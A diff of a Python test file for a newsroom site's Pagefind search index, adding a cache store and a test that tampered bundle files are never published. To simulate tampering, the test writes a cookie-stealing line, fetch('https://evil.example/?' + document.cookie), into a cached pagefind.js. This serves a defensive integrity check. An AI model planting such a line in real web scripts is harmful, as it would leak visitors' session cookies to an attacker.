@@ -4,6 +4,7 @@ name leads to, nothing unpublished; Pagefind's bundle made once for the same
 records."""
 
 import datetime
+import hashlib
 import os
 from pathlib import Path
 from types import SimpleNamespace
@@ -13,6 +14,7 @@ from hypothesis import given, settings, strategies as st
 
 from newsroom.model.people import Person, Speaker
 from newsroom.model.report import Quotation, Report
+from build_store import Store
 from newsroom.search.generator import UNUSED, Index
 from newsroom.search.pagefind_index import PagefindError, Service
 from newsroom.search.records import by_shard, language_filter, report_records, shard_order, text_of
@@ -152,29 +154,61 @@ def test_a_record_pagefind_refuses_fails_the_index_saying_why(tmp_path):
     assert not (tmp_path / "pagefind").exists()
 
 
+def index(records, folder, builds={}):  # noqa: B006 (the last build of each folder: one at a time)
+    """The search index of ``records``, as a build with the store in
+    ``folder``/cache makes it, the folder's last build finished first."""
+    if folder in builds:
+        builds[folder].commit()
+        builds[folder].db.close()
+    builds[folder] = store = Store(folder / "cache")
+    return Index(shards(records).items(), store, str(folder / "cache" / "search-work"))
+
+
+def test_a_file_added_to_a_bundle_in_the_cache_is_never_published(tmp_path):
+    """A planted pagefind.js, or one replaced: the bundle holds only what
+    the store recorded making, each file as it recorded it."""
+    output = tmp_path / "output"
+    first = index([RECORDS[0]], tmp_path)
+    first.place(str(output / "one"))
+    script = first.bundles[0].files["pagefind.js"]
+    made = script.read_bytes()
+    os.chmod(script, 0o644)
+    script.write_text("fetch('https://evil.example/?' + document.cookie)")
+    (script.parent / "extra.js").write_text("planted")
+    again = index([RECORDS[0]], tmp_path)
+    assert again.bundles[0].files is None, "made again: a file is not what the store made"
+    again.place(str(output / "two"))
+    assert (output / "two" / first.bundles[0].name / "pagefind.js").read_bytes() == made
+    assert not list((output / "two").rglob("extra.js"))
+
+
 def dated(record, year):
     return {**record, "filters": {**record["filters"], "year": [year]}}
 
 
 def test_a_bundle_a_year_each_made_once_for_the_same_records(tmp_path):
-    cache, output = tmp_path / "cache", tmp_path / "output"
+    output = tmp_path / "output"
     records = [dated(RECORDS[0], "2021"), dated(RECORDS[1], "2025"), {**RECORDS[0], "url": "people/a.html"}]
-    first = Index(shards(records).items(), str(cache))
+    first = index(records, tmp_path)
     # A bundle a shard and index language, the page's language's first.
     assert [b.name for b in first.bundles] == ["2021.und", "people.und", "2025.zh"]
     first.place(str(output / "one"))
     assert sorted(p.name for p in (output / "one").iterdir()) == ["2021.und", "2025.zh", "people.und"]
     entry = "pagefind-entry.json"
     # The same records: the same bundles, linked again.
-    Index(shards([dict(r) for r in records]).items(), str(cache)).place(str(output / "two"))
+    index([dict(r) for r in records], tmp_path).place(str(output / "two"))
     assert all(os.path.samefile(output / "one" / y / entry, output / "two" / y / entry)
                for y in ("2021.und", "2025.zh"))
     # A report of 2025 changed: that year is indexed again, and only it.
-    changed = Index(shards([records[0], {**records[1], "content": "Changed."}, records[2]]).items(), str(cache))
+    changed = index([records[0], {**records[1], "content": "Changed."}, records[2]], tmp_path)
     changed.place(str(output / "three"))
     assert os.path.samefile(output / "one" / "2021.und" / entry, output / "three" / "2021.und" / entry)
     assert not os.path.samefile(output / "one" / "2025.zh" / entry, output / "three" / "2025.zh" / entry)
-    assert sorted(p.name for p in cache.iterdir()) == sorted(os.path.basename(b.folder) for b in changed.bundles)
+    # The store keeps the bundles of this build, and no other.
+    index([], tmp_path)  # this build finished
+    kept = {p.name for p in (tmp_path / "cache" / "objects").rglob("*") if p.is_file()}
+    placed = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (output / "three").rglob("*") if p.is_file()}
+    assert placed < kept and len(kept - placed) == len(changed.bundles), "the files, and each bundle's listing"
     # What did not change in the year indexed again is the very file the last build placed.
     kept = [p.relative_to(output / "three") for p in (output / "three" / "2025.zh" / "filter").iterdir()]
     assert kept and all(os.path.samefile(output / "one" / name, output / "three" / name) for name in kept)
@@ -221,16 +255,16 @@ def test_the_site_is_indexed_a_bundle_at_a_time_in_the_bundles_its_records_go_in
 
 
 def test_a_report_published_into_the_newest_month_changes_none_of_the_years_files(tmp_path):
-    cache, output = str(tmp_path / "cache"), tmp_path / "output"
+    output = tmp_path / "output"
     archive = [on(f"2025-{month:02}-{day:02}", n) for n, (month, day) in enumerate(
         [(m, d) for m in (9, 10, 11) for d in (3, 14, 25)])]
-    Index(shards(archive).items(), cache).place(str(output / "before"))
-    Index(shards([*archive, on("2025-11-28", 99)]).items(), cache).place(str(output / "after"))
+    index(archive, tmp_path).place(str(output / "before"))
+    index([*archive, on("2025-11-28", 99)], tmp_path).place(str(output / "after"))
     assert {p.parts[0] for p in changed_between(output, "before", "after")} == {"2025-11.und"}
     # A September report edited: its year is indexed again, and what did
     # not change in it (Pagefind's script) is the file the year had.
     edited = [{**archive[0], "content": "Edited."}, *archive[1:], on("2025-11-28", 99)]
-    Index(shards(edited).items(), cache).place(str(output / "edited"))
+    index(edited, tmp_path).place(str(output / "edited"))
     changed = changed_between(output, "after", "edited")
     assert {p.parts[0] for p in changed} == {"2025.und"} and Path("2025.und/pagefind.js") not in changed
 
